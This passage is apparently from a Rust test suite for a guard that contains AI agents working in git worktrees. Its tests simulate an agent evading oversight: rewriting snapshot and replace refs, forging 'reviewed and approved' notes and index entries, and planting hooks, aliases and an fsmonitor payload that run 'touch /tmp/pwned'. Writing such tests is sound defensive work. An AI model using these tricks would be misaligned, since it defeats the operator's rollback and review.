    let prefix = tnh_conductor::workspace::refs_prefix(workspace.run_id());
    let snapshot_refs = || git_in(repo.path(), &["for-each-ref", &format!("{prefix}/")]);
    let recorded = snapshot_refs();
    let guard = workspace.guard(&[]).unwrap();
    // The agent commits its change, then points every snapshot of the run at that commit, so
    // that "going back" to any of them would keep the change.
    let dir = workspace.path();
    put(dir, "evil.txt", "kept by the rollback\n");
    git_in(dir, &["add", "evil.txt"]);
    git_in(dir, &["commit", "-q", "-m", "evil"]);
    let evil = git_in(dir, &["rev-parse", "HEAD"]);
    for name in git_in(
        repo.path(),
        &["for-each-ref", "--format=%(refname)", &format!("{prefix}/")],
    )
    .lines()
    {
        git_in(repo.path(), &["update-ref", name, &evil]);
    }

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(snapshot_refs(), recorded, "the snapshot refs are put back");
    let moved: Vec<&str> = report
        .ref_changes
        .iter()
        .filter(|change| change.class == RefClass::Snapshot && change.restored)
        .map(|change| change.refname.as_str())
        .collect();
    assert!(
        moved.contains(&format!("{prefix}/pre_run").as_str()),
        "{report:?}"
    );
    assert!(
        classes(&violations).contains(&(
            ViolationClass::ProtectedBranchViolation,
            "snapshot_refs".to_owned()
        )),
        "{violations:?}"
    );
    let rolled_back = workspace
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert!(!dir.join("evil.txt").exists(), "{rolled_back:?}");
    assert_eq!(
        git_in(dir, &["rev-parse", "HEAD"]),
        repo.git(&["rev-parse", "main"])
    );
}

#[test]
fn a_replace_ref_that_would_swap_mains_commit_is_removed_and_reported() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "replace");
    let guard = workspace.guard(&[]).unwrap();
    let main = repo.git(&["rev-parse", "main"]);
    // `git replace` makes every git command read the agent's commit where `main`'s is named:
    // the operator's next checkout of `main` would bring the agent's files.
    let dir = workspace.path();
    put(dir, "evil.txt", "swapped in\n");
    git_in(dir, &["add", "evil.txt"]);
    git_in(dir, &["commit", "-q", "-m", "evil"]);
    let evil = git_in(dir, &["rev-parse", "HEAD"]);
    git_in(dir, &["replace", &main, &evil]);
    assert!(
        repo.git(&["ls-tree", "--name-only", "main"])
            .contains("evil.txt")
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(repo.git(&["for-each-ref", "refs/replace/"]), "");
    assert!(
        !repo
            .git(&["ls-tree", "--name-only", "main"])
            .contains("evil.txt")
    );
    let replaced: Vec<&RefChange> = report
        .ref_changes
        .iter()
        .filter(|change| change.class == RefClass::Replace)
        .collect();
    assert_eq!(replaced.len(), 1, "{report:?}");
    assert_eq!(replaced[0].refname, format!("refs/replace/{main}"));
    assert!(replaced[0].restored);
    assert!(
        classes(&violations).contains(&(
            ViolationClass::ProtectedBranchViolation,
            "replace_refs".to_owned()
        )),
        "{violations:?}"
    );
}

/// `git notes` writes `refs/notes/commits`, which `git log` shows beside `main`'s commits
/// and a push of the notes ref carries away: an agent could note "reviewed and approved" on
/// them. Before, notes refs were not listed by the guard at all and the step was clean.
#[test]
fn a_note_an_agent_attaches_to_mains_commit_is_removed_and_reported() {
    let repo = TempRepo::new();
    // A note the operator wrote before the run is theirs and must come back as it was.
    let main = repo.git(&["rev-parse", "main"]);
    repo.git(&[
        "notes",
        "--ref=review",
        "add",
        "-m",
        "operator's note",
        &main,
    ]);
    let review_before = repo.git(&["rev-parse", "refs/notes/review"]);
    let workspace = create(&repo, "notes");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    git_in(dir, &["notes", "add", "-m", "reviewed and approved", &main]);
    git_in(dir, &["notes", "--ref=review", "remove", &main]);
    assert!(
        repo.git(&["log", "-1", "--notes", "main"])
            .contains("reviewed and approved")
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(repo.git(&["for-each-ref", "refs/notes/commits"]), "");
    assert!(
        !repo
            .git(&["log", "-1", "--notes", "main"])
            .contains("reviewed and approved")
    );
    assert_eq!(repo.git(&["rev-parse", "refs/notes/review"]), review_before);
    let notes: Vec<&RefChange> = report
        .ref_changes
        .iter()
        .filter(|change| change.class == RefClass::Notes)
        .collect();
    let names: Vec<&str> = notes.iter().map(|change| change.refname.as_str()).collect();
    assert_eq!(
        names,
        ["refs/notes/commits", "refs/notes/review"],
        "{report:?}"
    );
    assert!(notes.iter().all(|change| change.restored), "{report:?}");
    assert!(
        classes(&violations).contains(&(
            ViolationClass::ProtectedBranchViolation,
            "notes_refs".to_owned()
        )),
        "{violations:?}"
    );
}

#[test]
fn files_that_rewrite_history_as_git_reads_it_are_restored_and_reported() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "history");
    let guard = workspace.guard(&[]).unwrap();
    let main = repo.git(&["rev-parse", "main"]);
    let common = repo.path().join(".git");
    // A graft or a shallow entry cuts `main` off from its parents; an alternate object store
    // lends objects nobody reviewed.
    put(&common, "info/grafts", format!("{main}\n"));
    put(&common, "shallow", format!("{main}\n"));
    put(
        &common,
        "objects/info/alternates",
        "/tmp/elsewhere/objects\n",
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    for file in ["info/grafts", "shallow", "objects/info/alternates"] {
        assert!(!common.join(file).exists(), "{file} is gone again");
        assert!(
            report.git_config_changed.contains(&file.to_owned()),
            "{file}: {report:?}"
        );
    }
    assert_eq!(
        violations
            .iter()
            .filter(|violation| violation.rule == "modify_git_config")
            .count(),
        3,
        "{violations:?}"
    );
}

#[test]
fn the_operators_stash_survives_an_agent_that_clears_it() {
    let repo = TempRepo::new();
    for edit in ["first", "second"] {
        repo.write("README.md", &format!("# {edit} unfinished idea\n"));
        repo.git(&["stash", "push", "-q", "-m", edit]);
    }
    let stashed = repo.git(&["stash", "list"]);
    let workspace = create(&repo, "stash");
    let guard = workspace.guard(&[]).unwrap();
    // The stash is shared by every worktree of the repository.
    git_in(workspace.path(), &["stash", "clear"]);
    assert_eq!(repo.git(&["stash", "list"]), "");

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(repo.git(&["stash", "list"]), stashed);
    assert_eq!(
        repo.git(&["stash", "show", "-p", "stash@{1}"])
            .lines()
            .last(),
        Some("+# first unfinished idea")
    );
    assert!(
        report
            .ref_changes
            .iter()
            .any(|change| change.class == RefClass::Stash && change.restored),
        "{report:?}"
    );
    assert!(
        classes(&violations)
            .contains(&(ViolationClass::ProtectedBranchViolation, "stash".to_owned())),
        "{violations:?}"
    );
}

#[test]
fn guarded_files_are_restored_as_links_or_files_never_through_an_agents_link() {
    let home = tempfile::tempdir().unwrap();
    // The operator keeps ~/.gitconfig in a dotfiles folder, as a symlink; ~/.gitignore_global
    // is a plain file.
    let gitconfig = "[core]\n\texcludesFile = ~/.gitignore_global\n";
    put(home.path(), "dotfiles/gitconfig", gitconfig);
    std::os::unix::fs::symlink("dotfiles/gitconfig", home.path().join(".gitconfig")).unwrap();
    put(home.path(), ".gitignore_global", "*.swp\n");
    put(home.path(), ".bashrc", "export PATH\n");
    // The agent edits the configuration through the operator's link, and replaces the ignore
    // file by a link to the operator's .bashrc, which a naive restore would overwrite.
    let script = "printf '[alias]\\n\\tx = status\\n' >> \"$HOME/.gitconfig\" \
        && rm \"$HOME/.gitignore_global\" && ln -s .bashrc \"$HOME/.gitignore_global\" \
        && mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml";
    let summary = policy_summary_of_hiding_agent(home.path(), script);

    let changed = summary["guard_report"]["git_config_changed"].to_string();
    assert!(changed.contains(".gitconfig") && changed.contains(".gitignore_global"));
    let link = std::fs::read_link(home.path().join(".gitconfig")).unwrap();
    assert_eq!(link, std::path::Path::new("dotfiles/gitconfig"));
    assert_eq!(read(home.path(), "dotfiles/gitconfig"), gitconfig);
    let ignore = home.path().join(".gitignore_global");
    assert!(!ignore.symlink_metadata().unwrap().is_symlink());
    assert_eq!(read(home.path(), ".gitignore_global"), "*.swp\n");
    assert_eq!(read(home.path(), ".bashrc"), "export PATH\n");
}

#[test]
fn hooks_added_as_symlinks_are_removed_and_sample_files_are_left_alone() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "hooks");
    let hooks = repo.path().join(".git/hooks");
    put(&hooks, "pre-commit.sample", "#!/bin/sh\n");
    let guard = workspace.guard(&[]).unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let script = put(elsewhere.path(), "evil.sh", "#!/bin/sh\n");
    std::os::unix::fs::symlink(&script, hooks.join("post-checkout")).unwrap();
    // A link to a script that does not exist yet still becomes a hook once it does.
    std::os::unix::fs::symlink("/nonexistent/later.sh", hooks.join("pre-push")).unwrap();
    put(
        &hooks,
        "pre-commit.sample",
        "#!/bin/sh\n# edited, never run\n",
    );

    let (report, _) = finish_step(&workspace, &guard, &strict_policy());

    assert!(hooks.join("post-checkout").symlink_metadata().is_err());
    assert!(hooks.join("pre-push").symlink_metadata().is_err());
    let mut changed = report.git_config_changed.clone();
    changed.sort();
    assert_eq!(
        changed,
        ["hooks/post-checkout", "hooks/pre-push"],
        "{report:?}"
    );
}

#[test]
fn a_submodules_hooks_and_configuration_and_the_sparse_checkout_are_guarded() {
    let library = TempRepo::new();
    let repo = TempRepo::new();
    repo.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        library.path().to_str().unwrap(),
        "vendor/library",
    ]);
    repo.commit_all("vendor the library");
    let module = repo.path().join(".git/modules/vendor/library");
    assert!(module.join("HEAD").is_file());
    let workspace = create(&repo, "modules");
    let guard = workspace.guard(&[]).unwrap();
    let config = std::fs::read(module.join("config")).unwrap();
    // A hook in the submodule's repository runs in the operator's next `git submodule
    // update`; a sparse-checkout file decides what the operator's next checkout brings.
    put(&module, "hooks/post-checkout", "#!/bin/sh\n");
    let mut edited = config.clone();
    edited.extend_from_slice(b"[core]\n\tfsmonitor = true\n");
    std::fs::write(module.join("config"), edited).unwrap();
    put(repo.path(), ".git/info/sparse-checkout", "/README.md\n");

    let (report, _) = finish_step(&workspace, &guard, &strict_policy());

    assert!(!module.join("hooks/post-checkout").exists());
    assert_eq!(std::fs::read(module.join("config")).unwrap(), config);
    assert!(!repo.path().join(".git/info/sparse-checkout").exists());
    let mut changed = report.git_config_changed.clone();
    changed.sort();
    assert_eq!(
        changed,
        [
            "info/sparse-checkout",
            "modules/vendor/library/config",
            "modules/vendor/library/hooks/post-checkout"
        ],
        "{report:?}"
    );
}

/// Whether `name` is a symbolic ref in the repository at `dir`.
fn is_symbolic(dir: &std::path::Path, name: &str) -> bool {
    std::process::Command::new("git")
        .current_dir(dir)
        .args(["symbolic-ref", "-q", name])
        .output()
        .unwrap()
        .status
        .success()
}

/// Symbolic refs an agent makes: git writes through them, so the guard's own restore, a
/// rollback's reset or `runs clean` would move or delete the ref they name. Each is reported
/// and put back as a plain ref, and `main` never moves.
#[test]
fn symbolic_refs_an_agent_makes_are_put_back_without_writing_through_them() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "symref");
    let dir = workspace.path();
    repo.git(&["tag", "v0.1"]);
    let base = repo.git(&["rev-parse", "main"]);
    put(repo.path(), "operator.txt", "the operator's own work\n");
    repo.git(&["add", "operator.txt"]);
    repo.git(&["commit", "-q", "-m", "operator's latest work"]);
    let main = repo.git(&["rev-parse", "main"]);
    let guard = workspace.guard(&[]).unwrap();
    let work_branch = workspace.branch_ref();
    let replace = format!("refs/replace/{}", "1".repeat(40));
    for (name, target) in [
        // A replace ref and a tag naming `main`: a restore by `update-ref -d` or to the tag's
        // old commit would delete or rewind `main`.
        (replace.as_str(), "refs/heads/main"),
        ("refs/tags/v0.1", "refs/heads/main"),
        // The work branch naming `main`: a rollback's reset would rewind `main`.
        (work_branch.as_str(), "refs/heads/main"),
    ] {
        git_in(dir, &["symbolic-ref", name, target]);
    }

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(repo.git(&["rev-parse", "main"]), main, "main never moves");
    let symbolic: Vec<&str> = report
        .ref_changes
        .iter()
        .filter(|change| change.class == RefClass::SymbolicRef && change.restored)
        .map(|change| change.refname.as_str())
        .collect();
    assert_eq!(
        symbolic,
        [replace.as_str(), "refs/tags/v0.1", work_branch.as_str()],
        "{report:?}"
    );
    assert!(
        classes(&violations).contains(&(
            ViolationClass::ProtectedBranchViolation,
            "symbolic_refs".to_owned()
        )),
        "{violations:?}"
    );
    for name in [work_branch.as_str(), "refs/tags/v0.1"] {
        assert!(
            !is_symbolic(repo.path(), name),
            "{name} is a plain ref again"
        );
    }
    assert_eq!(repo.git(&["rev-parse", "refs/tags/v0.1"]), base);
    assert_eq!(repo.git(&["for-each-ref", "refs/replace/"]), "");
    assert_eq!(
        repo.git(&["rev-parse", &work_branch]),
        workspace.record().base_sha
    );
    // A rollback afterwards moves the work branch alone.
    workspace
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert_eq!(repo.git(&["rev-parse", "main"]), main);
}

/// `main` made a symbolic ref naming the work branch: the operator's next commits would land
/// on the run's branch, and `runs clean --all` would leave `main` dangling.
#[test]
fn main_made_a_symbolic_ref_is_a_protected_branch_violation_and_put_back() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "main-symref");
    let main = repo.git(&["rev-parse", "main"]);
    let guard = workspace.guard(&[]).unwrap();
    git_in(
        workspace.path(),
        &["symbolic-ref", "refs/heads/main", &workspace.branch_ref()],
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    let change = &report.ref_changes[0];
    assert_eq!(
        (change.refname.as_str(), change.class, change.restored),
        ("refs/heads/main", RefClass::SymbolicRef, true)
    );
    assert_eq!(
        change.after.as_deref(),
        Some(format!("ref: {}", workspace.branch_ref()).as_str())
    );
    assert!(!violations.is_empty());
    assert!(!is_symbolic(repo.path(), "refs/heads/main"));
    assert_eq!(repo.git(&["rev-parse", "main"]), main);
}

/// An agent that deletes its worktree folder, or garbles its `HEAD` so that git refuses to
/// run there, after moving `main` and planting a hook and an alias: the guard puts the
/// repository back first, whatever state the worktree is in, then repairs the worktree.
#[test]
fn a_deleted_worktree_or_a_garbled_head_does_not_stop_the_guard() {
    for damage in ["delete the worktree", "garble HEAD"] {
        let repo = TempRepo::new();
        let workspace = create(&repo, "wrecked");
        let main = repo.git(&["rev-parse", "main"]);
        let guard = workspace.guard(&[]).unwrap();
        let dir = workspace.path();
        put(dir, "evil.txt", "evil\n");
        git_in(dir, &["add", "evil.txt"]);
        git_in(dir, &["commit", "-q", "-m", "evil"]);
        let evil = git_in(dir, &["rev-parse", "HEAD"]);
        git_in(dir, &["update-ref", "refs/heads/main", &evil]);
        git_in(dir, &["config", "alias.st", "!touch /tmp/pwned"]);
        let hook = repo.path().join(".git/hooks/post-checkout");
        std::fs::write(&hook, "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
        let worktree_git_dir =
            std::path::PathBuf::from(git_in(dir, &["rev-parse", "--absolute-git-dir"]));
        match damage {
            "delete the worktree" => std::fs::remove_dir_all(dir).unwrap(),
            _ => std::fs::write(worktree_git_dir.join("HEAD"), "garbage\n").unwrap(),
        }

        let checked = guard.check().unwrap();

        let report = checked.report;
        assert_eq!(repo.git(&["rev-parse", "main"]), main, "{damage}");
        assert!(!hook.exists(), "{damage}");
        assert!(
            !repo.git(&["config", "--list"]).contains("alias.st"),
            "{damage}"
        );
        assert!(
            report
                .ref_changes
                .iter()
                .any(|change| change.refname == "refs/heads/main" && change.restored),
            "{damage}: {report:?}"
        );
        assert_eq!(
            report.worktree_recreated,
            damage == "delete the worktree",
            "{damage}"
        );
        assert_eq!(
            git_in(dir, &["symbolic-ref", "HEAD"]),
            workspace.branch_ref(),
            "{damage}"
        );
        // The run goes on: its worktree can be captured and rolled back.
        workspace
            .status_since(&workspace.pre_run().unwrap())
            .unwrap();
        workspace
            .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
            .unwrap();
        assert!(!dir.join("evil.txt").exists(), "{damage}");
    }
}

/// The worktree's `commondir` rewritten to name a copy of the repository whose configuration
/// runs a program (`core.fsmonitor`) on every status: the conductor's own git commands would
/// run it after the step. It is put back before any of them runs, and git is told the common
/// folder anyway.
#[test]
fn a_rewritten_commondir_or_gitdir_is_put_back_before_the_conductors_git_reads_it() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "commondir");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    let worktree_git_dir =
        std::path::PathBuf::from(git_in(dir, &["rev-parse", "--absolute-git-dir"]));
    let fake = repo.path().join("fake-common");
    repo.git(&["clone", "-q", "--bare", ".", fake.to_str().unwrap()]);
    let ran = repo.path().join("payload-ran");
    let payload = repo.path().join("payload.sh");
    std::fs::write(
        &payload,
        format!("#!/bin/sh\necho ran >> '{}'\n", ran.display()),
    )
    .unwrap();
    let executable = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&payload, executable).unwrap();
    git_in(
        &fake,
        &["config", "core.fsmonitor", payload.to_str().unwrap()],
    );
    let commondir = worktree_git_dir.join("commondir");
    let gitdir = worktree_git_dir.join("gitdir");
    let read = |path: &std::path::Path| std::fs::read(path).unwrap();
    let (commondir_before, gitdir_before) = (read(&commondir), read(&gitdir));
    std::fs::write(&commondir, format!("{}\n", fake.display())).unwrap();
    std::fs::write(&gitdir, "/nowhere/.git\n").unwrap();

    let report = guard.check().unwrap().report;
    workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    workspace
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("next"), 1)
        .unwrap();

    assert_eq!(read(&commondir), commondir_before);
    assert_eq!(read(&gitdir), gitdir_before);
    for name in ["worktree/commondir", "worktree/gitdir"] {
        assert!(
            report.git_config_changed.contains(&name.to_owned()),
            "{report:?}"
        );
    }
    assert!(!ran.exists(), "the fake repository's fsmonitor program ran");
    // The operator's tools and the next reopen find the worktree.
    Workspace::open(workspace.record()).unwrap();
}

/// A commit the agent makes on another branch than its own (an existing unprotected branch,
/// or a new one) is a commit all the same.
#[test]
fn commits_on_any_branch_count() {
    let repo = TempRepo::new();
    repo.git(&["branch", "develop"]);
    let workspace = create(&repo, "elsewhere");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    let tree = git_in(dir, &["rev-parse", "HEAD^{tree}"]);
    let parent = git_in(dir, &["rev-parse", "develop"]);
    let sneaky = git_in(dir, &["commit-tree", &tree, "-p", &parent, "-m", "sneaky"]);
    git_in(dir, &["update-ref", "refs/heads/develop", &sneaky]);
    let other = git_in(
        dir,
        &["commit-tree", &tree, "-p", &parent, "-m", "new branch"],
    );
    git_in(dir, &["update-ref", "refs/heads/brand-new", &other]);

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(report.commits, 2, "{report:?}");
    assert!(
        classes(&violations).contains(&(ViolationClass::ForbiddenOperation, "commit".to_owned())),
        "{violations:?}"
    );
}

/// Forges `path`'s entry in the index at `index`: stat data of the file as it is now, the
/// blob `blob`, so git believes the file unchanged.
fn forge_index(worktree: &std::path::Path, index: &std::path::Path, path: &str, blob: &str) {
    let run = |args: &[&str]| {
        let output = std::process::Command::new(args[0])
            .args(&args[1..])
            .current_dir(worktree)
            .env("GIT_INDEX_FILE", index)
            .output()
            .unwrap();
        assert!(output.status.success(), "{args:?}: {output:?}");
    };
    // An mtime in the past: git re-reads a file as recent as its index ("racily clean").
    run(&["touch", "-d", "2020-01-01", path]);
    run(&["git", "add", path]);
    let script = crate::support::fixture("hostile/forge_index.py");
    run(&[
        "python3",
        script.to_str().unwrap(),
        index.to_str().unwrap(),
        path,
        blob,
    ]);
}

/// An agent that forges the conductor's scratch index (or flags a path skip-worktree in it)
/// and the worktree's own index, so that git believes its edit of a file is the old content:
/// the capture still sees the edit, and a rollback still undoes it.
#[test]
fn a_forged_index_hides_nothing_from_the_capture_or_the_rollback() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "forged");
    let dir = workspace.path();
    workspace
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("step"), 1)
        .unwrap();
    let guard = workspace.guard(&[]).unwrap();
    let original = read(dir, "README.md");
    let old_blob = git_in(dir, &["rev-parse", "HEAD:README.md"]);
    let admin = std::path::PathBuf::from(git_in(dir, &["rev-parse", "--absolute-git-dir"]));
    put(dir, "README.md", "evil\n");
    forge_index(
        dir,
        &admin.join("tnh-scratch-index"),
        "README.md",
        &old_blob,
    );
    forge_index(dir, &admin.join("index"), "README.md", &old_blob);
    assert_eq!(
        git_in(dir, &["status", "--porcelain"]),
        "",
        "the forgery fools git"
    );

    let report = guard.check().unwrap().report;
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();

    assert!(
        report
            .git_config_changed
            .contains(&tnh_conductor::workspace::SCRATCH_INDEX.to_owned()),
        "{report:?}"
    );
    let changed: Vec<&str> = status.files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(changed, ["README.md"]);
    let record = workspace
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert_eq!(read(dir, "README.md"), original);
    assert_eq!(record.before.files_changed, 1);
    assert!(record.after.is_empty(), "{record:?}");
}

/// A repository the agent creates with no commit (`git init secret`) cannot be recorded in a
/// snapshot; its folder still shows in the capture, as a new nested repository, so what the
/// agent put there does not escape the policy.
#[test]
fn a_repository_without_a_commit_shows_in_the_capture_and_the_policy() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "uncommitted-repo");
    let dir = workspace.path();
    git_in(dir, &["init", "-q", "secret"]);
    put(dir, "secret/data.txt", "exfiltrated\n");

    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();

    let secret = status
        .files
        .iter()
        .find(|file| file.path == "secret")
        .unwrap_or_else(|| panic!("{status:?}"));
    assert_eq!(secret.new_mode.as_deref(), Some("160000"));
    let policy = Policy::compile(&PolicySpec {
        forbidden_paths: vec!["secret/**".to_owned()],
        ..PolicySpec::default()
    })
    .unwrap();
    let violations = policy.check(&status, &GuardReport::default(), None);
    assert!(
        violations
            .iter()
            .any(|violation| violation.class == ViolationClass::ForbiddenPath
                && violation.path.as_deref() == Some("secret")),
        "{violations:?}"
    );
    let record = workspace
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert_eq!(record.before.files_changed, 1);
    assert!(!dir.join("secret").exists());
}

/// An agent that flags one of the operator's files assume-unchanged or skip-worktree in the
/// operator's index, then edits it, hides the edit from `git status` (the operator's too); the
/// guard watches flagged files by their identity and reports the edit.
#[test]
fn an_edit_hidden_behind_an_index_flag_in_the_operators_checkout_is_reported() {
    for flag in ["--assume-unchanged", "--skip-worktree"] {
        let repo = TempRepo::new();
        let workspace = create(&repo, "flagged");
        let guard = workspace.guard(&[]).unwrap();
        repo.git(&["update-index", flag, "README.md"]);
        put(repo.path(), "README.md", "edited behind a flag\n");
        assert_eq!(repo.git(&["status", "--porcelain"]), "", "{flag} hides it");

        let report = guard.check().unwrap().report;

        assert_eq!(
            report.operator_checkout_changed,
            ["README.md"],
            "{flag}: {report:?}"
        );
    }
}

/// Attributes an agent writes in the worktree do not change what is recorded: with an
/// `ident` attribute git would store (and the patch show) `$Id$` where the file holds a
/// payload. The run's base decides the attributes (git 2.40 and later).
#[test]
fn attributes_an_agent_writes_do_not_change_what_the_capture_records() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "ident");
    let dir = workspace.path();
    put(dir, "src/.gitattributes", "*.sh ident\n");
    put(
        dir,
        "src/build.sh",
        "echo building\n$Id: `touch /tmp/pwned` $\n",
    );
    let patch = repo.path().join(".tnh/ident.patch");

    workspace
        .capture_since(&workspace.pre_run().unwrap(), &patch)
        .unwrap();

    let text = std::fs::read_to_string(&patch).unwrap();
    let version = git_in(dir, &["version"]);
    let (major, minor) = version
        .split_whitespace()
        .nth(2)
        .and_then(|number| {
            let mut parts = number.split('.').map(|part| part.parse::<u32>().ok());
            Some((parts.next()??, parts.next()??))
        })
        .unwrap();
    if (major, minor) >= (2, 40) {
        assert!(text.contains("+$Id: `touch /tmp/pwned` $"), "{text}");
    }
}

/// The attribute files of the run's base apply wherever they are, the root's and a nested
/// folder's alike (git reads them from a tree of the base's attribute files alone), and one the
/// agent adds or edits in the worktree does not.
#[test]
fn the_bases_attribute_files_apply_at_every_depth_and_the_agents_do_not() {
    let repo = TempRepo::new();
    repo.write(".gitattributes", "*.bin -diff\n");
    repo.write("deep/er/.gitattributes", "*.dat -diff\n");
    repo.write("deep/er/table.dat", "one\n");
    repo.write("deep/er/notes.txt", "one\n");
    repo.write("top.bin", "one\n");
    repo.write("elsewhere/table.dat", "one\n");
    repo.commit_all("attributes");
    let workspace = create(&repo, "attributes");
    let dir = workspace.path();
    for path in [
        "deep/er/table.dat",
        "deep/er/notes.txt",
        "top.bin",
        "elsewhere/table.dat",
    ] {
        put(dir, path, "one\ntwo\n");
    }
    // The agent's attribute files: one would hide the notes' lines, one would show the table's.
    put(dir, "deep/er/.gitattributes", "*.txt -diff\n");
    put(dir, "deep/.gitattributes", "*.dat diff\n");
    let patch = repo.path().join(".tnh/attributes.patch");

    let status = workspace
        .capture_since(&workspace.pre_run().unwrap(), &patch)
        .unwrap()
        .status;

    let binary = |path: &str| {
        let file = status.files.iter().find(|file| file.path == path).unwrap();
        (file.binary, file.lines_added)
    };
    assert_eq!(binary("deep/er/table.dat"), (true, 0), "{status:?}");
    assert_eq!(binary("top.bin"), (true, 0));
    assert_eq!(binary("deep/er/notes.txt"), (false, 1));
    assert_eq!(binary("elsewhere/table.dat"), (false, 1));
    let text = std::fs::read_to_string(&patch).unwrap();
    let section = |path: &str| {
        let header = format!("diff --git a/{path} b/{path}\n");
        let start = text.find(&header).unwrap() + header.len();
        let end = text[start..]
            .find("diff --git")
            .map_or(text.len(), |end| start + end);
        text[start..end].to_owned()
    };
    assert!(
        section("deep/er/table.dat").contains("GIT binary patch"),
        "{text}"
    );
    assert!(section("deep/er/notes.txt").contains("\n+two\n"), "{text}");
}

/// An agent that replaces its worktree folder by a symlink to the operator's checkout: the
/// guard removes the link (never following it: through it, repairing the worktree's `.git`
/// file deleted the operator's `.git` folder) and checks the worktree out again.
#[test]
fn a_worktree_replaced_by_a_symlink_is_never_followed() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "linked");
    let main = repo.git(&["rev-parse", "main"]);
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    std::fs::remove_dir_all(dir).unwrap();
    std::os::unix::fs::symlink(repo.path(), dir).unwrap();

    let report = guard.check().unwrap().report;

    assert!(repo.path().join(".git").is_dir(), "the operator's .git");
    assert_eq!(repo.git(&["rev-parse", "main"]), main);
    assert!(report.worktree_recreated, "{report:?}");
    assert!(!std::fs::symlink_metadata(dir).unwrap().is_symlink());
    assert_eq!(
        git_in(dir, &["symbolic-ref", "HEAD"]),
        workspace.branch_ref()
    );
}

/// An agent that deletes its worktree's folder in the repository (`.git/worktrees/<run_id>`)
/// after a forbidden edit: the guard makes it a worktree again, so the edit is captured and
/// can be rolled back.
#[test]
fn a_deleted_worktree_admin_folder_is_rebuilt_and_the_step_still_checked() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "adminless");
    workspace
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("step"), 1)
        .unwrap();
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    let admin = std::path::PathBuf::from(git_in(dir, &["rev-parse", "--absolute-git-dir"]));
    put(dir, "README.md", "evil\n");
    std::fs::remove_dir_all(&admin).unwrap();

    let report = guard.check().unwrap().report;
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();

    assert!(report.worktree_recreated, "{report:?}");
    let changed: Vec<&str> = status.files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(changed, ["README.md"]);
    workspace
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert_eq!(read(dir, "README.md"), "# test repository\n");
}

/// Two runs side by side: run B's agent commits on B's work branch while run A's step runs;
/// A's guard does not charge A with B's commit.
#[test]
fn another_runs_commits_are_not_this_runs() {
    let repo = TempRepo::new();
    let first = create(&repo, "run-a");
    let second = create(&repo, "run-b");
    let guard = first.guard(&[]).unwrap();
    put(second.path(), "b.txt", "b\n");
    git_in(second.path(), &["add", "b.txt"]);
    git_in(second.path(), &["commit", "-q", "-m", "run B's work"]);

    let report = guard.check().unwrap().report;

    assert_eq!(report.commits, 0, "{report:?}");
}

/// A scratch index rebuilt after the step touched it keeps a tracked file under an ignored
/// folder (it is seeded from the commit, not empty): nothing is reported deleted.
#[test]
fn a_rebuilt_scratch_index_keeps_tracked_files_under_ignored_folders() {
    let repo = TempRepo::new();
    repo.write(".gitignore", "vendor/\n");
    repo.write("vendor/lib.txt", "keep\n");
    repo.git(&["add", "-f", ".gitignore", "vendor/lib.txt"]);
    repo.git(&["commit", "-q", "-m", "vendored"]);
    let workspace = create(&repo, "vendored");
    workspace
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("step"), 1)
        .unwrap();
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    let admin = std::path::PathBuf::from(git_in(dir, &["rev-parse", "--absolute-git-dir"]));
    let scratch = admin.join("tnh-scratch-index");
    let bytes = std::fs::read(&scratch).unwrap();
    std::fs::write(&scratch, bytes).unwrap();
    put(dir, "README.md", "changed\n");

    let report = guard.check().unwrap().report;
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();

    assert!(
        report
            .git_config_changed
            .contains(&tnh_conductor::workspace::SCRATCH_INDEX.to_owned()),
        "{report:?}"
    );
    let changed: Vec<(&str, tnh_conductor::workspace::ChangeKind)> = status
        .files
        .iter()
